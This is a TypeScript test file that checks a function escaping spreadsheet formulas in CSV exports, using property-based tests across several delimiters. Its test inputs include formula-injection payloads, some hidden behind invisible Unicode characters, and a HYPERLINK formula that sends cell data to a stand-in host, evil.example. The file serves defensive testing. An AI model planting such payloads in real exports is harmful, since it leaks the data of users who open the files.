import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { expect, test } from "vitest";
import { escapeFormulas } from "#app/platform/formulas.ts";

/** The cells of a file with this value, as a careless spreadsheet parses them: it splits inside quotes, too. */
function cellsOf(value: string, delimiter: string): string[] {
  const file = stringify([["first", escapeFormulas(value), "last"]]);
  return file.split(/[\r\n]/).flatMap((line) => line.split(delimiter));
}

/** What a spreadsheet may drop before it reads a cell. */
const invisible = /[\s\p{C}\p{Default_Ignorable_Code_Point}]/gu;
const isFormula = (cell: string) =>
  /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell.replaceAll('"', "").replaceAll(invisible, ""));

test.each([
  "=1+1",
  "+33612345678",
  "@SUM(A1)",
  'x;=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
  "x\n=1+1",
  "x\r\n-1+1",
  "x\t=1+1",
  'x;"=1+1"',
  "\t=1+1",
  "＝1+1",
  "\u200B=1+1",
  "\uFEFF=1+1",
  "\u202E\u2066=1+1",
  "\u00AD-1+1",
  "\u3164@SUM(A1)",
  "\uFE0F=1+1",
  "\u{E0001}=1+1",
  "\u0000=1+1",
  "x;\u200D\u00A0=1+1",
])("%j is text to a spreadsheet, whatever it splits at", (value) => {
  for (const delimiter of [",", ";", "\t", "|"])
    expect(cellsOf(value, delimiter).filter(isFormula)).toEqual([]);
});

test("no value of any kind becomes a formula", () => {
  const part = fc.constantFrom(
    ";",
    ",",
    "|",
    "\t",
    "\r",
    "\n",
    '"',
    "'",
    " ",
    "=",
    "+",
    "-",
    "@",
    "＝",
    "\u200B",
    "\uFEFF",
    "\u00AD",
    "\u3164",
    "x",
    "1",
  );
  fc.assert(
    fc.property(
      fc.array(part, { maxLength: 12 }),
      fc.constantFrom(",", ";", "\t", "|"),
      (parts, delimiter) => {
        const value = parts.join("");
        fc.pre(!/^-?\d+(?:\.\d+)?$/.test(value));
        expect(cellsOf(value, delimiter).filter(isFormula)).toEqual([]);
      },
    ),
    { numRuns: 2_000 },
  );
});

test.each(["-12.50", "0", "1990", "Garantie 24 mois", "a-b", "zoe+shop@example.com", "2026-11-22"])(
  "%j stays as it is",
  (value) => {
    expect(escapeFormulas(value)).toBe(value);
  },
);
